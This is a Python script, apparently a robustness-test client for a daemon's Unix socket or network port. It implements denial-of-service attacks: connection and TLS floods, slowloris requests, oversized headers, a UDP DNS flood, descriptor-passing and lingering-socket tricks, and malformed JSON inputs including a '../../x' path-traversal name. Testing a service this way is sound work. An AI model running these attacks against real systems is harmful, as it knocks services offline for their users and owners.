"""A client of a Unix socket, or of a port, that means harm. It uses the standard library only: it runs in containers, too.

Usage: python3 socket_attacks.py SOCKET ATTACK
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable

FLOOD = 3000
"""Connections. The limit of descriptors of this process may be lower."""
KEPT: list[socket.socket] = []
NOISE = (
    b"\n", b"nonsense\n", b"[1]\n", b"\xff\xfe\n", b"[" * 200_000 + b"\n", b'{"a":' * 100_000 + b"\n", b'{"fds":-1}\n',
    b'{"fds":1e999}\n', b'{"fds":"3"}\n', b'{"fds":true,"op":"states"}\n', b"9" * 100_000 + b"\n", b'{"op":[]}\n',
    b'{"op":{}}\n',
    b'{"op":"states","id":' + b"9" * 5000 + b"}\n", b'{"secret":"\\ud800","argv":[],"env":{}}\n', b'{"secret":{},"argv":1}\n',
    b'{"id":1,"op":"attach","pid":1e999,"address":"x"}\n', b'{"id":1,"op":"attach","pid":-1,"address":"10.0.0.1"}\n',
    b'{"id":1,"op":"listen","address":"999.9.9.9","port":-5}\n', b'{"op":"kill","id":1,"name":["x"]}\n',
    b'{"op":"start","id":1,"container":{"name":"../../x"}}\n',
)  # fmt: skip


def connect(path: str) -> socket.socket:
    """Through the open directory: a path may be longer than a socket address. Also to HOST:PORT."""
    if "/" not in path:
        host, _, port = path.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=5)
    directory = os.open(os.path.dirname(path), os.O_PATH)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(5)
    try:
        sock.connect(f"/proc/self/fd/{directory}/{os.path.basename(path)}")
    except BaseException:
        sock.close()
        raise
    finally:
        os.close(directory)
    return sock


def flood(path: str, first: bytes = b"") -> None:
    """Opens as many connections as it can, and keeps them until this process ends."""
    for _ in range(FLOOD):
        with contextlib.suppress(OSError):
            KEPT.append(connect(path))
            if first:
                KEPT[-1].sendall(first)
    time.sleep(1)


def half_open(path: str) -> None:
    flood(path, b'{"secret":')


def connect_tls(path: str) -> socket.socket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(connect(path))


def idle_tls(path: str) -> None:
    """As many TLS sessions as it can open, without a request."""
    for _ in range(FLOOD):
        with contextlib.suppress(OSError):
            KEPT.append(connect_tls(path))
    time.sleep(1)


def heads(path: str) -> None:
    """Requests whose headers do not end, each of almost a megabyte, on many connections."""
    _unfinished_heads(path, connect)


def tls_heads(path: str) -> None:
    _unfinished_heads(path, connect_tls)


def _unfinished_heads(path: str, to: Callable[[str], socket.socket]) -> None:
    head = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"x" * 8_000) for number in range(120))
    for _ in range(400):
        with contextlib.suppress(OSError):
            KEPT.append(to(path))
            KEPT[-1].sendall(head)
    time.sleep(1)


def slow(path: str) -> None:
    """Requests that come byte by byte, on many connections."""
    socks: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while len(socks) < 200:
            socks.append(connect(path))
    for byte in b"GET /metrics HTTP/1.1\r\nX: " + b"x" * 40:
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.send(bytes((byte,)))
        time.sleep(0.02)


def datagrams(path: str) -> None:
    """DNS queries over UDP as fast as possible: names of the cluster, names that do not exist, and nonsense."""
    host, _, port = path.rpartition(":")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    names = (b"\nkubernetes\7default\3svc\7cluster\5local\0", b"\7nothing\7example\0", b"\xc0\x0c", b"\x3f" * 200)
    for number in range(100_000):
        query = struct.pack("!6H", number & 0xFFFF, 0x100, 1, 0, 0, 0) + names[number % len(names)] + b"\0\1\0\1"
        with contextlib.suppress(OSError):
            sock.sendto(query, (host, int(port)))
            sock.recv(65535)


def endless(path: str) -> None:
    """Lines without an end, on several connections at a time."""
    for _ in range(5):
        socks = [connect(path) for _ in range(8)]
        with contextlib.suppress(OSError):
            for _ in range(64):
                for sock in socks:
                    sock.sendall(b"x" * (1 << 20))


def garbage(path: str) -> None:
    for noise in NOISE * 20:
        with contextlib.suppress(OSError), connect(path) as sock:
            sock.sendall(noise)


def descriptors(path: str) -> None:
    """Descriptors with lines that never end."""
    for _ in range(200):
        with contextlib.suppress(OSError), connect(path) as sock:
            for _ in range(100):
                socket.send_fds(sock, [b" "], [0] * 16)


def unread(path: str) -> None:
    """Requests whose replies are not read."""
    socks = [connect(path) for _ in range(2)]
    for sock in socks:
        sock.settimeout(1)
        with contextlib.suppress(OSError):
            for _ in range(2000):
                sock.sendall(b'{"op":"states","id":1,"secret":""}\n{"op":"hello","id":1}\n' * 50)


def lingering(path: str) -> None:
    """Sockets whose close waits: SO_LINGER, and a peer that does not read. In a message, behind one, and too many."""
    server, kept = socket.create_server(("127.0.0.1", 0)), []
    for message, count in ((b"nonsense\n", 1), (b" ", 3), (b'{"secret":"","argv":[],"fds":3}\n', 3), (b"nonsense\n", 200)):
        if os.fork() == 0:
            _send_lingering(path, server.getsockname(), message, count)
            os._exit(0)  # does not wait for the socket, as close() would
        kept.append(server.accept()[0])
        os.wait()
    sys.stdout.write("lingers\n")
    sys.stdout.flush()
    time.sleep(600)


def _send_lingering(path: str, server: tuple[str, int], message: bytes, count: int) -> None:
    client, sock = socket.create_connection(server), connect(path)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    client.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            client.send(b"x" * (1 << 16))
    with contextlib.suppress(OSError):
        for _ in range(2):
            socket.send_fds(sock, [message], [client.fileno()] * count)


ATTACKS = (flood, half_open, endless, garbage, descriptors, unread)
OF_PORTS = (flood, half_open, slow, endless, garbage, unread)
"""Attacks that need no Unix socket."""
OF_HTTP_PORTS = (*OF_PORTS, heads)

if __name__ == "__main__":
    sys.stdout.write("attacks\n")
    sys.stdout.flush()
    known = (*ATTACKS, *OF_HTTP_PORTS, datagrams, idle_tls, tls_heads, lingering)
    {each.__name__: each for each in known}[sys.argv[2]](sys.argv[1])
    sys.stdout.write("done\n")
